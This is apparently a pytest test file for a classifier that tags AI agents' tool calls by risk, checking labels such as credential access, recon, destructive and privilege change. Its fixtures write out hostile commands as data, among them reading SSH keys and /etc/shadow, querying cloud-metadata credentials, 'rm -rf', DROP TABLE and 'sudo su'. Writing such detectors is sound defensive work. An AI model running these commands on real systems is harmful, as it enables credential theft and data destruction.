"""Tool-call classification: names of common frameworks, arguments by meaning."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aimds.errors import InputError
from aimds.rules.taxonomy import (
    ACTION_TYPES,
    TAGS,
    Classifier,
    action_type,
    classify,
    type_matches,
)
from aimds.types import Severity

# (tool, args, expected type, tags that must be present)
CASES: list[tuple[str, dict[str, Any], str, set[str]]] = [
    # MCP reference servers
    ("read_text_file", {"path": "/srv/app/main.py"}, "fs:read", set()),
    ("mcp__filesystem__read_file", {"path": "/home/u/.ssh/id_ed25519"}, "secrets:read",
     {"credential_access", "credential_store:ssh", "sensitive_path"}),
    ("filesystem.write_file", {"path": "notes.md", "content": "x"}, "fs:write", set()),
    ("edit_file", {"path": "/etc/hosts", "edits": []}, "fs:write", {"system_path"}),
    ("directory_tree", {"path": "/"}, "fs:list", {"recon"}),
    ("move_file", {"source": "~/.aws/credentials", "destination": "/tmp/c"}, "secrets:read",
     {"credential_store:aws"}),
    ("fetch", {"url": "https://docs.python.org/3/"}, "net:http_get", {"outbound"}),
    ("git_status", {"repo_path": "."}, "vcs:read", set()),
    ("push_files", {"owner": "o", "repo": "r", "files": []}, "vcs:push", {"outbound"}),
    ("create_pull_request", {"title": "t"}, "vcs:write", set()),
    ("query", {"sql": "SELECT name FROM products WHERE id = 3"}, "db:query", set()),
    ("write_query", {"query": "INSERT INTO t VALUES (1)"}, "db:write", set()),
    ("slack_post_message", {"channel_id": "C01", "text": "deploy done"}, "message:send",
     {"outbound", "has_payload"}),
    ("brave_web_search", {"query": "rust borrow checker"}, "search:web", set()),
    ("puppeteer_navigate", {"url": "https://example.com"}, "browser:navigate", set()),
    ("puppeteer_evaluate", {"script": "document.cookie"}, "code:exec", {"code_exec"}),
    ("create_entities", {"entities": [{"name": "x"}]}, "memory:write", set()),
    ("read_graph", {}, "memory:read", set()),
    # LangChain
    ("terminal", {"commands": ["cat /etc/shadow"]}, "secrets:read", {"credential_store:shadow"}),
    ("requests_get", {"url": "https://api.example.com/v1/items"}, "net:http_get", set()),
    ("requests_post", {"url": "https://api.example.com/v1/items", "data": {"a": 1}},
     "net:http_post", {"has_payload"}),
    ("file_delete", {"file_path": "old.log"}, "fs:delete", set()),
    ("Python_REPL", {"query": "import os; print(dict(os.environ))"}, "secrets:read",
     {"code_exec", "credential_store:env"}),
    ("sql_db_query", {"query": "DROP TABLE customers"}, "db:admin", {"destructive"}),
    ("gmail_send_message", {"to": ["a@partner.org"], "subject": "s", "message": "m"},
     "email:send", {"outbound", "has_payload", "external_recipient"}),
    ("tavily_search_results_json", {"query": "x"}, "search:web", set()),
    ("duckduckgo_search", {"query": "x"}, "search:web", set()),
    ("wikipedia", {"query": "x"}, "search:web", set()),
    # OpenAI Agents SDK
    ("LocalShellTool", {"command": ["rm", "-rf", "/var/lib/app"]}, "fs:delete", {"destructive"}),
    ("ComputerTool", {"action": "click"}, "browser:interact", set()),
    ("FileSearchTool", {"query": "refund policy"}, "search:internal", set()),
    ("WebSearchTool", {"query": "weather"}, "search:web", set()),
    ("CodeInterpreterTool", {"code": "print(1)"}, "code:exec", {"code_exec"}),
    # custom names and generic names decided by arguments
    ("run_command", {"cmd": "whoami"}, "shell:exec", {"recon"}),
    ("execute_command", {"command": "sudo su"}, "identity:privilege_change", {"privilege_change"}),
    ("transfer_funds", {"amount": 500, "to": "DE89370400440532013000"}, "payment:transfer",
     {"outbound"}),
    ("stripe_create_refund", {"charge": "ch_1"}, "payment:refund", set()),
    ("stripe_list_customers", {}, "payment:read", set()),
    ("send_mail_to_customer", {"to": "c@shop.example", "body": "hi"}, "email:send", {"outbound"}),
    ("remove_user_account", {"user_id": "42"}, "identity:user_admin", set()),
    ("tool_x", {"url": "https://api.example.com/upload", "method": "POST", "body": "k=v"},
     "net:http_post", {"has_payload"}),
    ("tool_x", {"command": "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r"},
     "secrets:read", {"credential_store:cloud_metadata", "recon"}),
    ("tool_x", {"sql": "UPDATE accounts SET balance = 0"}, "db:write", {"destructive"}),
    ("tool_x", {"path": "out/report.txt", "content": "done"}, "fs:write", set()),
    ("tool_x", {"to": "x@y.example", "subject": "s", "body": "b"}, "email:send", {"outbound"}),
    ("tool_x", {"username": "admin", "password": "hunter2"}, "identity:login", {"auth_attempt"}),
    ("login", {"username": "root", "password": "x"}, "identity:login", {"auth_attempt"}),
    ("authenticate_user", {"user": "bob", "token": "t"}, "identity:login", {"auth_attempt"}),
    ("http_request", {"url": "https://id.example.com/oauth/token", "method": "POST",
                      "data": {"grant_type": "password"}}, "net:http_post", {"auth_attempt"}),
    ("fetch_url", {"url": "https://t.example.io/p.gif?d=sk_live_51HqW8eJk2LmN4oP6qR8"},
     "net:http_get", {"has_payload"}),
    ("sudo", {"command": "systemctl restart nginx"}, "identity:privilege_change",
     {"privilege_change"}),
    ("spawn_agent", {"task": "x"}, "agent:spawn", set()),
    ("handoff", {"to": "billing-agent"}, "agent:delegate", set()),
    ("get_secret", {"name": "db"}, "secrets:read", {"credential_access"}),
    ("sql", {"query": "SELECT * FROM users"}, "db:query", {"database_dump"}),
    ("sql", {"query": "COPY users TO '/tmp/u.csv'"}, "db:file", {"database_dump"}),
    ("sql", {"query": "GRANT ALL PRIVILEGES ON db.* TO 'eve'"}, "identity:privilege_change",
     {"privilege_change"}),
]  # fmt: skip


@pytest.mark.parametrize(("tool", "args", "type_id", "tags"), CASES)
def test_tool_calls_are_classified(
    tool: str, args: dict[str, Any], type_id: str, tags: set[str]
) -> None:
    info = classify(tool, args)
    assert info.type == type_id, info
    assert tags <= info.tags, info


# false positives and hard negatives: must not be flagged
NEGATIVES: list[tuple[str, dict[str, Any]]] = [
    ("read_file", {"path": "/workspace/app/.env.example"}),
    ("read_file", {"path": "README.md"}),
    ("shell", {"command": "cat README.md"}),
    ("bash", {"command": "ls src"}),
    ("bash", {"command": "git push origin feature"}),
    ("shell", {"command": "echo password-reset docs"}),
    ("sql_query", {"query": "SELECT id FROM orders WHERE id=1"}),
    ("sql_query", {"query": "SELECT * FROM users WHERE id = 7"}),
    ("web_search", {"query": "how to reset a forgotten password"}),
    ("web_search", {"query": "select the best laptop for 2025"}),
    ("web_search", {"query": "DROP TABLE syntax in postgres"}),
    ("send_email", {"to": "team@corp.example", "subject": "status", "body": "all good"}),
    ("write_file", {"path": "docs/security.md", "content": "never cat ~/.aws/credentials"}),
    ("fetch", {"url": "https://pypi.org/simple/requests/"}),
]


@pytest.mark.parametrize(("tool", "args"), NEGATIVES)
def test_benign_calls_are_not_flagged(tool: str, args: dict[str, Any]) -> None:
    info = classify(tool, args)
    bad = {"credential_access", "privilege_change", "destructive", "database_dump",
           "code_exec", "auth_attempt", "recon"}  # fmt: skip
    assert not info.tags & bad, info
    assert info.risk < Severity.HIGH, info


def test_internal_domains_are_not_external_recipients() -> None:
    classifier = Classifier(internal_domains=["corp.example"])
    internal = classifier.classify("send_email", {"to": "Team <team@corp.example>", "body": "x"})
    assert "external_recipient" not in internal.tags
    assert internal.resources == ("team@corp.example",)
    mixed = classifier.classify("send_email", {"to": "a@corp.example, b@gmail.com", "body": "x"})
    assert "external_recipient" in mixed.tags
    assert set(mixed.resources) == {"a@corp.example", "b@gmail.com"}


def test_policy_tool_types_take_precedence() -> None:
    classifier = Classifier({"acme_*": "payment:transfer", "read_file": "secrets:read"})
    assert classifier.classify("acme_move", {}).type == "payment:transfer"
    assert classifier.classify("mcp__x__read_file", {}).type == "secrets:read"
    with pytest.raises(InputError, match="fs:read"):
        Classifier({"x": "fs:raed"})


def test_unknown_tool_is_unknown_with_medium_risk() -> None:
    info = classify("frobnicate", {"level": 3})
    assert info.type == "unknown:unknown" and info.risk is Severity.MEDIUM
    assert classify("frobnicate").category == "unknown"


def test_taxonomy_covers_the_required_breadth() -> None:
    categories = {t.category for t in ACTION_TYPES.values()}
    assert len(ACTION_TYPES) >= 25 and len(categories) >= 11
    for required in ("fs:read", "fs:write", "fs:delete", "fs:list", "shell:exec",
                     "net:http_get", "net:http_post", "net:download", "net:upload",
                     "email:send", "email:read", "message:send", "db:query", "db:write",
                     "db:admin", "code:exec", "secrets:read", "secrets:write",
                     "identity:privilege_change", "identity:user_admin", "payment:transfer",
                     "payment:refund", "agent:spawn", "agent:delegate", "agent:config",
                     "memory:read", "memory:write", "browser:navigate", "search:web"):  # fmt: skip
        assert action_type(required).id == required
    assert {"credential_access", "recon", "external_recipient"} <= set(TAGS)


def test_action_type_names_the_closest_id() -> None:
    with pytest.raises(InputError, match="secrets:read"):
        action_type("secret:read")
    assert type_matches("fs:*", "fs:delete") and not type_matches("fs:*", "db:write")


def test_resources_are_bounded() -> None:
    many = {"paths": [f"/data/f{i}.txt" for i in range(100)]}
    assert len(classify("read_multiple_files", many).resources) <= 32


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=40),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)


@settings(max_examples=200, deadline=None)
@given(
    tool=st.text(max_size=30),
    args=st.dictionaries(
        st.sampled_from(
            [
                "path",
                "command",
                "url",
                "sql",
                "query",
                "to",
                "body",
                "password",
                "method",
                "content",
                "code",
                "cmd",
                "x",
            ]
        ),
        _VALUES,
        max_size=5,
    ),
)
def test_classify_never_raises(tool: str, args: dict[str, Any]) -> None:
    info = classify(tool, args)
    assert info.type in ACTION_TYPES
    assert len(info.resources) <= 32


@pytest.mark.parametrize(
    ("tool", "args", "target"),
    [
        ("login", {"username": "bob", "password": "x", "host": "DB.example.com"}, "db.example.com"),
        ("authenticate", {"user": "bob", "password": "x", "avatar": "/srv/a.png",
                          "url": "https://sso.example.com/login"}, "sso.example.com"),
        ("tool_x", {"username": "bob", "password": "x", "service": "GitHub"}, "github"),
        ("shell", {"command": "sshpass -p hunter2 ssh bob@10.0.0.5"}, "10.0.0.5"),
        ("shell", {"command": "curl -u bob:pw -d @/srv/body.json https://api.example.com/login"},
         "api.example.com"),
        ("shell", {"command": "PGPASSWORD=x psql -h db.internal -U app"}, "db.internal"),
        ("shell", {"command": "docker login -u x -p y registry.example.com"},
         "registry.example.com"),
    ],
)  # fmt: skip
def test_login_target_leads_the_resources(tool: str, args: dict[str, Any], target: str) -> None:
    info = Classifier().classify(tool, args)
    assert "auth_attempt" in info.tags, info
    assert info.resources[0] == target, info


def test_resources_keep_their_order_without_a_login() -> None:
    info = Classifier().classify("shell", {"command": "curl -d @/srv/b.json https://x.example/a"})
    assert "auth_attempt" not in info.tags
    assert info.resources[0] == "/srv/b.json"


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("get_weather", {"city": "Paris"}),
        ("lookup_order", {"order_id": "A-1234"}),
        ("list_shipments", {"status": "open", "limit": 5}),
        ("showForecast", {"days": 3}),
        ("mcp__crm__find_contact", {"name": "Acme Corp"}),
        ("get_weather", {}),
        ("summarize", {"text": "a long report"}),
        ("calculate_tax", {"amount": 100, "region": "EU"}),
        ("analyze_sentiment", {"text": "great product"}),
    ],
)
def test_an_unknown_tool_that_only_looks_at_plain_values_is_unknown_read(
    tool: str, args: dict[str, object]
) -> None:
    info = classify(tool, args)
    assert info.type == "unknown:read" and info.risk is Severity.LOW, (tool, info)
    assert info.category == "unknown"  # roles that do not admit it get defaults.unknown_tool


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("aws_call", {"service": "ec2", "action": "TerminateInstances"}),
        ("k8s_apply", {"namespace": "staging"}),
        ("get_and_delete", {"id": "1"}),
        ("frobnicate", {"level": 3}),
        ("get_status", {"host": "10.0.0.5"}),  # a private host is no plain value
        ("lookup_user", {"q": "/etc/shadow"}),
        ("fetch_data", {"cmd": "rm -rf /"}),
        ("get_report", {"url": "https://collect.example.net/x"}),
    ],
)
def test_an_unknown_tool_that_acts_or_names_something_is_not_unknown_read(
    tool: str, args: dict[str, object]
) -> None:
    assert classify(tool, args).type != "unknown:read", tool


@pytest.mark.parametrize(
    "tool", ["jira_comment", "add_ticket_comment", "JiraCreateIssue", "asana_update_task"]
)
def test_tracker_tools_are_version_control_writes(tool: str) -> None:
    assert classify(tool, {"issue": "OPS-12", "text": "Done"}).type == "vcs:write", tool


@pytest.mark.parametrize(
    "tool", ["openai_chat", "anthropic_messages", "llm_complete", "chat_completion", "ollama_run"]
)
def test_a_chat_with_a_language_model_is_no_message_to_people(tool: str) -> None:
    assert classify(tool, {"prompt": "Summarize the changelog"}).type == "agent:delegate", tool
    assert classify("slack_chat", {"text": "hi"}).type == "message:send"


@pytest.mark.parametrize(
    "tool", ["get_user_profile", "list_users", "describe_role", "list_groups", "lookup_account"]
)
def test_reading_users_and_roles_is_identity_read(tool: str) -> None:
    info = classify(tool, {"user_id": "42"})
    assert info.type == "identity:read" and info.risk is Severity.LOW, (tool, info)


@pytest.mark.parametrize(
    ("tool", "kind"),
    [("get_auth_token", "identity:login"), ("lookup_user_session", "identity:user_admin"),
     ("get_api_key", "secrets:read"), ("add_user", "identity:user_admin"),
     ("grant_role", "identity:privilege_change")],
)  # fmt: skip
def test_identity_names_that_unlock_or_change_are_no_reads(tool: str, kind: str) -> None:
    assert classify(tool, {"user_id": "42"}).type == kind, tool


@pytest.mark.parametrize(
    ("tool", "args", "kind", "destructive"),
    [
        ("redis", {"command": "FLUSHALL"}, "db:admin", True),
        ("redis_exec", {"query": "flushdb"}, "db:admin", True),
        ("valkey", {"command": "CONFIG SET dir /root/.ssh"}, "db:file", False),
        ("redis", {"command": "EVAL 'return 1' 0"}, "db:exec", False),
        ("mongo", {"command": "db.users.drop()"}, "db:admin", True),
        ("mongodb_run", {"cmd": "db.sessions.deleteMany({})"}, "db:write", True),
        ("mongo_query", {"filter": {"$where": "sleep(1000)"}}, "db:exec", False),
        ("db_query", {"q": "db.getSiblingDB('prod').dropDatabase()"}, "db:admin", True),
    ],
)
def test_redis_and_mongo_text_is_read_by_what_it_does(
    tool: str, args: dict[str, object], kind: str, destructive: bool
) -> None:
    info = classify(tool, args)
    assert info.type == kind and info.destructive is destructive, (tool, args, info)


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("redis", {"command": "GET user:42"}),
        ("mongo", {"query": "db.orders.find({status: 'open'}).limit(5)"}),
        ("mongodb_run", {"cmd": "db.sessions.deleteMany({expired: true})"}),
        ("run_sql", {"sql": "SELECT id FROM users WHERE id = 3"}),
    ],
)
def test_ordinary_redis_and_mongo_text_stays_ordinary(tool: str, args: dict[str, object]) -> None:
    assert not classify(tool, args).destructive, (tool, args)
